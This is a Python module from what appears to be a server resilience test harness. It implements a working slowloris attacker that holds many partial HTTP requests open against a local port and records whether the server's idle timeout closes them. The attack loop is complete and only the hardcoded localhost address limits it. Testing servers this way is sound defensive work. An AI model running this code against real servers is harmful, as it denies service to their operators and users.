"""Scenario 13's attacker: `count` connections that start a request head and then send one more
header byte every `byte_every` seconds, never finishing it (slowloris). They are opened one by
one over `ramp` seconds, as attack tools do, and each keeps its own clock. One thread, `select`
over all sockets. A connection the server closes (FIN or reset, seen on read or on the next
byte) is counted with how long it lived, and replaced, so `count` stay open for the whole run.
At the end the ones still open are closed by us and their age is kept: a connection older than
the server's idle timeout (plus slack) means the timeout did not apply.

`SlowlorisProcess` runs it in a child process (`python3 -m faults.slowloris PORT COUNT BYTE_EVERY`,
summary as JSON on stdout after SIGTERM), so the attacker's work does not slow the load
threads' own timing: the latency the scenario compares is the server's, not the harness's."""
import json
import os
import select
import signal
import socket
import statistics
import subprocess
import sys
import time

from .background import Background

HEAD = b"GET /go/ad-a?utm_source=slow HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\nX-Slow: "


class Slowloris(Background):
    def __init__(self, port, count=200, byte_every=1.5, ramp=2.0):
        super().__init__()
        self.port, self.count, self.byte_every, self.ramp = port, count, byte_every, ramp
        self.started = None
        self.open = {}            # socket -> (opened at, next byte at)
        self.lifetimes = []       # seconds each server-closed connection lived
        self.answered = 0         # server-closed connections that got bytes (e.g. a 408) first
        self.opened = self.connect_failures = 0
        self.left_open_ages = []
        self.max_open = 0

    def connect(self):
        try:
            s = socket.create_connection(("127.0.0.1", self.port), timeout=2)
            s.sendall(HEAD)
            s.setblocking(False)
        except OSError:
            self.connect_failures += 1
            return
        now = time.time()
        self.open[s] = (now, now + self.byte_every)
        self.opened += 1

    def closed_by_server(self, s):
        opened, _ = self.open.pop(s)
        self.lifetimes.append(time.time() - opened)
        try:
            s.close()
        except OSError:
            pass

    def step(self):
        wanted = min(self.count, 1 + int(self.count * (time.time() - self.started) / self.ramp))
        while len(self.open) < wanted and not self.stop_flag.is_set():
            self.connect()
        readable, _, _ = select.select(list(self.open), [], [], 0.02)
        for s in readable:
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                self.answered += 1
                continue
            self.closed_by_server(s)
        now = time.time()
        for s, (opened, next_at) in list(self.open.items()):
            if now >= next_at:
                try:
                    s.send(b"a")
                    self.open[s] = (opened, now + self.byte_every)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    self.closed_by_server(s)
        self.max_open = max(self.max_open, len(self.open))

    def run(self):
        self.started = time.time()
        while not self.stop_flag.is_set():
            self.step()

    def after_stop(self):
        now = time.time()
        for s, (opened, _) in list(self.open.items()):
            self.left_open_ages.append(now - opened)
            s.close()
        self.open.clear()

    def summary(self):
        lt = sorted(self.lifetimes)
        return {"opened": self.opened, "connect_failures": self.connect_failures, "max_open": self.max_open,
                "closed_by_server": len(lt), "answered_before_close": self.answered,
                "lifetime_median_s": round(statistics.median(lt), 2) if lt else None,
                "lifetime_max_s": round(lt[-1], 2) if lt else None,
                "left_open": len(self.left_open_ages),
                "left_open_oldest_s": round(max(self.left_open_ages), 2) if self.left_open_ages else None}


class SlowlorisProcess:
    def __init__(self, registry, port, count, byte_every):
        lib = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
        self.proc = subprocess.Popen([sys.executable, "-m", "faults.slowloris", str(port), str(count), str(byte_every)],
                                     cwd=lib, stdout=subprocess.PIPE, text=True)
        registry.add(self.proc.pid)
        self.result = None

    def stop(self):
        """Stops the attack and returns its summary."""
        self.proc.send_signal(signal.SIGTERM)
        out, _ = self.proc.communicate(timeout=60)
        self.result = json.loads(out.strip().splitlines()[-1])
        return self.result


def main():
    port, count, byte_every = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    attack = Slowloris(port, count, byte_every)
    signal.signal(signal.SIGTERM, lambda *_: attack.stop_flag.set())
    attack.run()
    attack.after_stop()
    print(json.dumps(attack.summary()), flush=True)


if __name__ == "__main__":
    main()
